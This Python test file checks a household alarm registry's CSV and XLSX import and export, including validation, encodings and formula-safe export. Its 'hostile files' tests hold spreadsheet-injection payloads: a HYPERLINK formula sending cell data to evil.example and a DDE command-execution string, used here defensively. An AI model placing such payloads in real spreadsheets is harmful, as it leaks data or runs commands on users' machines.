"""The household registry and its CSV import/export, on a real SQLite database."""

import codecs
import csv
import io

import pytest
from sqlalchemy import func, select

from switchboard.community import csvfile
from switchboard.community.models import Household, HouseholdNumber, Neighbour
from switchboard.community.registry import HouseholdData, Registry, RegistryError

from tests.test_alarm_support import PLAN, database, number

pytestmark = pytest.mark.database

HEADER = "id,numbers,community,building,unit,room,residents,notes,neighbours\n"


@pytest.fixture
def registry(tmp_path):
    return Registry(database(tmp_path), PLAN, max_neighbours=10)


def count(registry, table):
    with registry.database.session() as s:
        return s.execute(select(func.count()).select_from(table)).scalar()


def test_import_and_versions(registry):
    assert registry.version() == 0
    rows = (",87650001,Hualin,3,1,101,Chen,alone,87650002=Lin;0591-87650003\n"
            ',"87650002;87650020",Hualin,3,1,102,Lin,,87650001\n')
    summary = csvfile.import_text(registry, HEADER + rows, "h.csv")
    assert (summary.created, summary.updated) == (2, 0)
    assert registry.version() == 1
    h = registry.find("87650020")
    assert [n.number for n in h.numbers] == [number(2), number(20)]
    one = registry.find("+86 591 8765 0001")
    assert [(n.position, n.number, n.name) for n in one.neighbours] == [
        (1, number(2), "Lin"), (2, number(3), "")]
    assert one.notes == "alone" and one.address == "Hualin, building 3, unit 1, room 101"
    assert registry.find(str(one.id)).id == one.id
    assert registry.find("87659999") is None


def test_import_all_or_nothing_every_problem_located(registry):
    csvfile.import_text(registry, HEADER + ",87650009,H,3,1,109,,,\n", "first.csv")
    text = (HEADER
            + ",87650001,H,3,1,101,,,87650002\n"             # 2: fine
            + ",87650001,H,3,1,102,,,\n"                      # 3: landline twice in the file
            + ",12,H,3,1,103,,,\n"                            # 4: not a number
            + ",87650004,H,,,,,,\n"                           # 5: no address
            + ",87650005,H,3,1,105,,,87650005\n"              # 6: its own number
            + ",87650006,H,3,1,106,,,87650007;87650007\n"     # 7: neighbour twice
            + ",87650009,H,3,1,110,,,\n"                      # 8: updates household 1: fine
            + "x,87650010,H,3,1,111,,,\n"                     # 9: bad id
            + '7,87650011,H,3,1,112,,,"' + ";".join(str(87650100 + i) for i in range(11)) + '"\n'
            + ",87650012,H,3,1,113,,\n")                      # 11: short row
    with pytest.raises(RegistryError) as e:
        csvfile.import_text(registry, text, "h.csv")
    assert e.value.problems == [
        "h.csv:3: landline +8659187650001 is also given for h.csv:2",
        "h.csv:4: numbers: '12' is not a valid CN phone number",
        "h.csv:4: no landline number: the household could not be recognised when it calls",
        "h.csv:5: no address: give at least a building, unit or room",
        "h.csv:6: neighbour +8659187650005 is one of this household's own numbers"
        " (its phone cannot answer its own alarm)",
        "h.csv:7: neighbour +8659187650007 is listed twice",
        "h.csv:9: id 'x' is not a household number",
        "h.csv:10: 11 neighbours, at most 10 allowed",
        "h.csv:10: no household with id 7",
        "h.csv:11: 8 fields where the header has 9",
    ]
    assert count(registry, Household) == 1
    assert count(registry, HouseholdNumber) == 1
    assert count(registry, Neighbour) == 0
    assert registry.version() == 1


def test_import_header_problems(registry):
    with pytest.raises(RegistryError) as e:
        csvfile.import_text(registry, "number,flat\n1,2\n", "h.csv")
    assert e.value.problems == ["h.csv:1: unknown column 'number'; unknown column 'flat'; "
                                "missing column 'numbers' (columns: id, numbers, community, "
                                "building, unit, room, residents, notes, neighbours, mobiles)"]
    with pytest.raises(RegistryError) as e:
        csvfile.import_text(registry, "", "h.csv")
    assert "empty file" in e.value.problems[0]
    with pytest.raises(RegistryError) as e:
        csvfile.import_text(registry, HEADER, "h.csv")
    assert e.value.problems == ["h.csv: no households in the file"]


def test_import_file_errors(registry, tmp_path):
    with pytest.raises(RegistryError) as e:
        csvfile.import_csv(registry, str(tmp_path / "missing.csv"))
    assert "cannot read" in e.value.problems[0]
    latin = tmp_path / "latin.csv"
    latin.write_bytes(HEADER.encode() + ",87650001,Caf\xe9,3,1,1,,,\n".encode("latin-1"))
    with pytest.raises(RegistryError) as e:
        csvfile.import_csv(registry, str(latin))
    assert "not UTF-8" in e.value.problems[0]


def test_quoted_multiline_notes_keep_line_numbers(registry):
    text = HEADER + ',87650001,H,3,1,101,,"line one\nline two",\n,12,H,3,1,1,,,\n'
    with pytest.raises(RegistryError) as e:
        csvfile.import_text(registry, text, "h.csv")
    assert e.value.problems[0] == ("h.csv:2: notes: control character U+000A at character 9"
                                   " (line breaks, tabs and other control characters are not"
                                   " allowed)")
    assert e.value.problems[1].startswith("h.csv:4: numbers:")


def test_number_moves_between_households_in_one_import(registry):
    csvfile.import_text(registry, HEADER + ",87650001,H,3,1,101,,,\n,87650002,H,3,1,102,,,\n")
    one, two = registry.find("87650001").id, registry.find("87650002").id
    # Household 2 gives up its number to household 1 in the same file: allowed.
    csvfile.import_text(registry, HEADER + f'{one},"87650001;87650002",H,3,1,101,,,\n'
                        + f"{two},87650022,H,3,1,102,,,\n")
    assert registry.find("87650002").id == one
    assert registry.find("87650022").id == two
    # Taking a number of a household the file does not rewrite is refused.
    with pytest.raises(RegistryError) as e:
        csvfile.import_text(registry, HEADER + f"{two},87650001,H,3,1,102,,,\n", "h.csv")
    assert e.value.problems == [f"h.csv:2: landline +8659187650001 belongs to household {one}"]


def test_caller_never_in_own_ring_group(registry):
    hid = registry.add(HouseholdData(numbers=[number(1), number(30)], room="101",
                                     neighbours=[(number(2), "")]))
    with pytest.raises(RegistryError) as e:
        registry.set_neighbours(hid, [(number(2), ""), (number(30), "")])
    assert e.value.problems == ["neighbour +8659187650030 is one of this household's own numbers"
                                " (its phone cannot answer its own alarm)"]
    assert [n.number for n in registry.find(hid).neighbours] == [number(2)]


def test_add_refuses_registered_landline(registry):
    registry.add(HouseholdData(numbers=[number(1)], room="101"))
    with pytest.raises(RegistryError) as e:
        registry.add(HouseholdData(numbers=[number(1)], room="102"))
    assert e.value.problems == ["landline +8659187650001 belongs to household 1"]


def test_max_neighbours_configurable(tmp_path):
    registry = Registry(database(tmp_path), PLAN, max_neighbours=3)
    with pytest.raises(RegistryError):
        registry.add(HouseholdData(numbers=[number(1)], room="1",
                                   neighbours=[(number(i), "") for i in range(2, 6)]))
    registry.add(HouseholdData(numbers=[number(1)], room="1",
                               neighbours=[(number(i), "") for i in range(2, 5)]))


def test_revisions_and_removal(registry):
    hid = registry.add(HouseholdData(numbers=[number(1)], room="101"))
    with registry.database.session() as s:
        assert s.get(Household, hid).revision == 1
    registry.set_neighbours(hid, [(number(2), "")])
    with registry.database.session() as s:
        assert s.get(Household, hid).revision == 2
    registry.remove(hid)
    assert count(registry, HouseholdNumber) == 0
    assert count(registry, Neighbour) == 0
    assert registry.version() == 3
    with pytest.raises(RegistryError):
        registry.remove(hid)


def test_export_round_trip(registry):
    csvfile.import_text(registry, HEADER + ',87650001,Hualin,3,1,101,"Chen, Mei","a ""note""",'
                        '87650002=Lin Tao;13800138000\n')
    out = io.StringIO()
    assert csvfile.export_csv(registry, out) == 1
    # A cell starting with + gets a ', so a spreadsheet keeps it as text.
    assert out.getvalue().splitlines()[1] == (
        "1,'+8659187650001,Hualin,3,1,101,\"Chen, Mei\",\"a \"\"note\"\"\","
        "'+8659187650002=Lin Tao;+8613800138000,")
    summary = csvfile.import_text(registry, out.getvalue())
    assert (summary.created, summary.updated) == (0, 1)


# Hostile and foreign files ------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0",
            "-2+3", "@SUM(1+1)", "'=already quoted", "'plain apostrophe", "normal"]


def test_export_is_formula_safe_and_round_trips(registry):
    """Every cell a spreadsheet would run starts with ' on export; import takes it off."""
    registry.add(HouseholdData(numbers=[number(1)], room="101", community=FORMULAS[0],
                               building=FORMULAS[2], unit=FORMULAS[3], residents=FORMULAS[1],
                               notes=FORMULAS[4],
                               neighbours=[(number(2), FORMULAS[5]), (number(3), "")]))
    out = io.StringIO()
    csvfile.export_csv(registry, out)
    header, row = list(csv.reader(io.StringIO(out.getvalue())))
    cells = dict(zip(header, row))
    for name in ("numbers", "community", "building", "unit", "residents", "notes",
                 "neighbours"):
        assert cells[name].startswith("'"), name
    assert cells["room"] == "101" and cells["community"] == "'" + FORMULAS[0]
    before = registry.find(number(1))
    csvfile.import_text(registry, out.getvalue(), "out.csv")
    after = registry.find(number(1))
    assert ([(n.number, n.name) for n in after.neighbours]
            == [(number(2), FORMULAS[5]), (number(3), "")])
    for name in ("community", "building", "unit", "room", "residents", "notes"):
        assert getattr(after, name) == getattr(before, name), name
    assert after.community == FORMULAS[0] and after.notes == FORMULAS[4]


def test_quote_unquote_exact():
    for text in FORMULAS + ["", "'", "''=x", "\t1", "\r1", "+8659187650001"]:
        assert csvfile.unquote(csvfile.quote(text)) == text
    assert csvfile.quote("+8659187650001") == "'+8659187650001"
    assert csvfile.quote("Chen") == "Chen"


ROW = ",87650001,华林花园,3,1,101,陈梅,独居老人,87650002=林涛\n"


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "gb18030", "gbk", "utf-16",
                                      "utf-16-le", "utf-16-be"])
def test_import_encodings_of_chinese_excel_and_wps(registry, tmp_path, encoding):
    path = tmp_path / "h.csv"
    raw = (HEADER + ROW).encode(encoding)
    if encoding == "utf-16-le":
        raw = codecs.BOM_UTF16_LE + raw  # what Excel's "Unicode text" writes
    if encoding == "utf-16-be":
        raw = codecs.BOM_UTF16_BE + raw
    path.write_bytes(raw)
    assert str(csvfile.import_csv(registry, str(path))) == "1 households added, 0 updated"
    h = registry.find("87650001")
    assert (h.community, h.residents, h.notes) == ("华林花园", "陈梅", "独居老人")
    assert [(n.number, n.name) for n in h.neighbours] == [(number(2), "林涛")]


def test_import_utf16_tab_separated_as_excel_unicode_text(registry, tmp_path):
    path = tmp_path / "h.txt"
    path.write_bytes((HEADER + ROW).replace(",", "\t").encode("utf-16"))
    csvfile.import_csv(registry, str(path))
    assert registry.find("87650001").residents == "陈梅"


def test_import_utf16_without_bom(registry, tmp_path):
    path = tmp_path / "h.csv"
    path.write_bytes((HEADER + ROW).encode("utf-16-le"))
    csvfile.import_csv(registry, str(path))
    assert registry.find("87650001").residents == "陈梅"


def test_import_undecodable_file_is_located_and_says_what_was_tried(registry, tmp_path):
    path = tmp_path / "h.csv"
    # \x80 is neither UTF-8 nor GB18030 (nor the start of any multi-byte character).
    path.write_bytes(HEADER.encode() + b",87650001,H,3,1,101,\x80\x80,,\n")
    with pytest.raises(RegistryError) as e:
        csvfile.import_csv(registry, str(path))
    [problem] = e.value.problems
    assert problem.startswith(f"{path}:2: not text in an encoding tried (UTF-8 with or without "
                              "BOM, UTF-16, GB18030/GBK)")
    assert "not GB18030" in problem and f"byte {len(HEADER) + 20}" in problem
    assert registry.find("87650001") is None


def test_import_refuses_huge_file_before_reading(registry, tmp_path, monkeypatch):
    monkeypatch.setattr(csvfile, "MAX_FILE_BYTES", 1024 ** 2)
    path = tmp_path / "h.csv"
    path.write_text(HEADER + ROW * 30000, encoding="utf-8")
    read = []
    monkeypatch.setattr(csvfile, "decode", lambda raw, path: read.append(raw))
    with pytest.raises(RegistryError) as e:
        csvfile.import_csv(registry, str(path))
    assert e.value.problems == [f"{path}: {path.stat().st_size} bytes, more than the 1 MiB a "
                                "households file may have"]
    assert read == []


@pytest.mark.parametrize("column, value, message", [
    ("notes", "x" * 501, "notes: 501 characters, longer than 500"),
    ("residents", "陈\x1b[2J梅", "residents: control character U+001B at character 2"),
    ("residents", "陈\t梅", "residents: control character U+0009 at character 2"),
    ("notes", "abc\u202edcba", "notes: control character U+202E at character 4"),
    ("neighbours", "87650002=Lin\x07", "neighbour +8659187650002: name: control character "
                                        "U+0007 at character 4"),
    ("neighbours", "87650002=" + "L" * 101, "neighbour +8659187650002: name: 101 characters, "
                                            "longer than 100"),
])
def test_names_and_notes_limits_located(registry, column, value, message):
    cells = dict(zip(HEADER.strip().split(","), ["", "87650001", "H", "3", "1", "101", "", "",
                                                 ""]))
    cells[column] = value
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerow(cells.values())
    with pytest.raises(RegistryError) as e:
        csvfile.import_text(registry, HEADER + out.getvalue(), "h.csv")
    [problem] = e.value.problems
    assert problem.startswith(f"h.csv:2: {message}")


def workbook(tmp_path, rows, formats=None):
    import openpyxl
    book = openpyxl.Workbook()
    sheet = book.active
    for row in rows:
        sheet.append(row)
    for coordinate, number_format in (formats or {}).items():
        sheet[coordinate].number_format = number_format
    path = tmp_path / "h.xlsx"
    book.save(path)
    return path


def test_import_xlsx_numbers_stay_as_written(registry, tmp_path):
    header = HEADER.strip().split(",")
    path = workbook(tmp_path, [
        header,
        # Landlines typed as numbers: an int, a float, and one whose leading 0 only the
        # cell's format keeps (Excel's custom format "00000000000").
        [None, 87650001, "华林花园", 3, 1, 101, "陈梅", None, "87650002=林涛"],
        [None, 87650002.0, "华林花园", 3, 1, 102.0, None, None, None],
        [None, 59187650003, "华林花园", 3, 1, 103, None, None, None],
        [None, 13800138000, "华林花园", 3, 1, "0104", None, "'=text", None],
    ], formats={"B4": "00000000000"})
    assert str(csvfile.import_csv(registry, str(path))) == "4 households added, 0 updated"
    one = registry.find("87650001")
    assert (one.community, one.residents, one.room, one.building) == ("华林花园", "陈梅", "101", "3")
    assert [(n.number, n.name) for n in one.neighbours] == [(number(2), "林涛")]
    assert registry.find("87650002").room == "102"
    assert registry.find("0591-87650003").room == "103"
    mobile = registry.find("13800138000")
    assert (mobile.room, mobile.notes) == ("0104", "=text")


def test_import_xlsx_formula_and_row_limit_refused(registry, tmp_path, monkeypatch):
    header = HEADER.strip().split(",")
    path = workbook(tmp_path, [header, [None, 87650001, "H", 3, 1, 101, "=1+1", None, None]])
    with pytest.raises(RegistryError) as e:
        csvfile.import_csv(registry, str(path))
    assert e.value.problems == [f"{path}:2: cell G2 is a formula (=1+1); paste it as values "
                                "first"]
    path = workbook(tmp_path, [header] + [[None, 87650000 + i, "H", 3, 1, i, None, None, None]
                                          for i in range(1, 6)])
    monkeypatch.setattr(csvfile, "MAX_ROWS", 3)
    with pytest.raises(RegistryError) as e:
        csvfile.import_csv(registry, str(path))
    assert e.value.problems == [f"{path}: more than 3 rows"]
    assert registry.households() == []
